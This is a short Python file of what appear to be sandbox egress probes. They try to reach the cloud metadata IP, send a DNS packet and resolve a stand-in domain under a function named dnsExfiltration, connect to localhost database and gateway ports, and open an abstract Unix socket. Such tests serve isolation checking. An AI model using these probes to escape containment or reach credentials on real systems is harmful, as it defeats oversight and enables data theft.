import socket

from seen import outcome


def _connect(host, port):
    with socket.socket() as connection:
        connection.settimeout(2)
        return outcome(lambda: connection.connect((host, port)))


def metadataIpConnect(input):
    return _connect("169.254.169.254", 80)


def dnsExfiltration(input):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as packet:
        sent = outcome(lambda: packet.sendto(b"x", ("8.8.8.8", 53)))
    try:
        socket.getaddrinfo("carried-out.example.com", 80)
        return sent + " resolved"
    except OSError:
        return sent + " unresolved"


def connectGatewayAndDb(input):
    return " ".join(_connect("127.0.0.1", port) for port in (input["port"], 5432, 8080))


def abstractUnixSocket(input):
    with socket.socket(socket.AF_UNIX) as connection:
        return outcome(lambda: connection.connect("\0" + input["abstract"]))
